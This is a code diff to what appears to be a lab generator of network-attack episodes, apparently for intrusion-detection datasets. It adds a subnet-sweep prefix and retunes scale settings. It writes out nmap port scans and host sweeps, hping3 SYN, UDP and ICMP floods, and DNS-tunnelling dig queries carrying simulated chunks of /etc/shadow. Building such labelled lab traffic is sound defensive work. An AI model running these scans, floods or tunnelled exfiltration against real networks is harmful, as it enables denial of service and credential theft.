@@ -20,11 +20,13 @@ export interface LabScale {
   exfilBytes: number;
   exfilS: number;
   slowPorts: string;
+  /** The host sweep covers the first 2^(32 - prefix) addresses of the subnet (the lab's hosts are .10 to .19). */
+  sweepPrefix: number;
 }
 
 export const LAB_SCALES: Record<'short' | 'long', LabScale> = {
-  short: { baselineS: 75, attackBudgetS: 110, gapS: 2, backupBytes: 40_000_000, tcpPorts: '1-400', udpPorts: '1-120', floodPackets: 1500, passwords: 24, tunnelQueries: 80, beaconPeriodS: 4, beacons: 12, exfilBytes: 3_000_000, exfilS: 25, slowPorts: '22,80,443' },
-  long: { baselineS: 600, attackBudgetS: 420, gapS: 10, backupBytes: 400_000_000, tcpPorts: '1-1024', udpPorts: '1-300', floodPackets: 6000, passwords: 120, tunnelQueries: 400, beaconPeriodS: 10, beacons: 36, exfilBytes: 20_000_000, exfilS: 240, slowPorts: '21,22,25,80,443,8080' },
+  short: { baselineS: 75, attackBudgetS: 125, gapS: 2, backupBytes: 40_000_000, tcpPorts: '1-400', udpPorts: '1-120', floodPackets: 1500, passwords: 16, tunnelQueries: 50, beaconPeriodS: 4, beacons: 12, exfilBytes: 3_000_000, exfilS: 20, slowPorts: '22,23,80,3389', sweepPrefix: 27 },
+  long: { baselineS: 600, attackBudgetS: 600, gapS: 10, backupBytes: 400_000_000, tcpPorts: '1-1024', udpPorts: '1-300', floodPackets: 6000, passwords: 120, tunnelQueries: 400, beaconPeriodS: 10, beacons: 36, exfilBytes: 20_000_000, exfilS: 240, slowPorts: '21,22,23,25,80,443,3389,8080', sweepPrefix: 24 },
 };
 
 export interface Episode {
@@ -45,6 +47,7 @@ const base32 = (n: number) => Buffer.from(`chunk ${n} of /etc/shadow ${'x'.repea
 
 export function attackPlan(s: LabScale, h: Record<string, LabHost>, internalCidr: string): Episode[] {
   const victim = h.server!.addr;
+  const sweep = internalCidr.replace(/\/\d+$/, `/${s.sweepPrefix}`);
   const ext = h.external!.addr;
   const words = Array.from({ length: s.passwords }, (_, i) => `pass${i}word`).join('\n');
   const tunnel = Array.from({ length: s.tunnelQueries }, (_, i) => `dig @${victim} +tries=1 +time=1 TXT ${base32(i).slice(0, 60)}.${base32(i + 7).slice(0, 40)}.t.lab >/dev/null`).join('; sleep 0.2; ');
@@ -54,7 +57,7 @@ export function attackPlan(s: LabScale, h: Record<string, LabHost>, internalCidr
     { episode: 'nmap-sS', attack: 'tcpscan', from: 'attacker', victim, command: ['nmap', '-sS', '-T4', '-Pn', '-n', '-p', s.tcpPorts, victim], timeoutS: 120 },
     { episode: 'nmap-sT', attack: 'tcpscan', from: 'attacker', victim, command: ['nmap', '-sT', '-T4', '-Pn', '-n', '-p', s.tcpPorts, victim], timeoutS: 120 },
     { episode: 'nmap-sU', attack: 'udpscan', from: 'attacker', victim, command: ['nmap', '-sU', '-T4', '-Pn', '-n', '--max-retries', '1', '-p', s.udpPorts, victim], timeoutS: 180 },
-    { episode: 'nmap-sn', attack: 'sweep', from: 'attacker', victim: internalCidr, command: ['nmap', '-sn', '-T4', '-n', '--disable-arp-ping', internalCidr], timeoutS: 120 },
+    { episode: 'nmap-sn', attack: 'sweep', from: 'attacker', victim: sweep, command: ['nmap', '-sn', '-T4', '-n', '--disable-arp-ping', sweep], timeoutS: 120 },
     { episode: 'hping-syn', attack: 'synflood', from: 'attacker', victim, command: ['hping3', '-q', '-S', '-p', '80', '-i', 'u400', '-c', String(s.floodPackets), victim], timeoutS: 120 },
     { episode: 'hping-udp', attack: 'udpflood', from: 'attacker', victim, command: ['hping3', '-q', '--udp', '-p', '53', '-d', '120', '-i', 'u400', '-c', String(s.floodPackets), victim], timeoutS: 120 },
     { episode: 'hping-icmp', attack: 'icmpflood', from: 'attacker', victim, command: ['hping3', '-q', '-1', '-i', 'u400', '-c', String(s.floodPackets), victim], timeoutS: 120 },
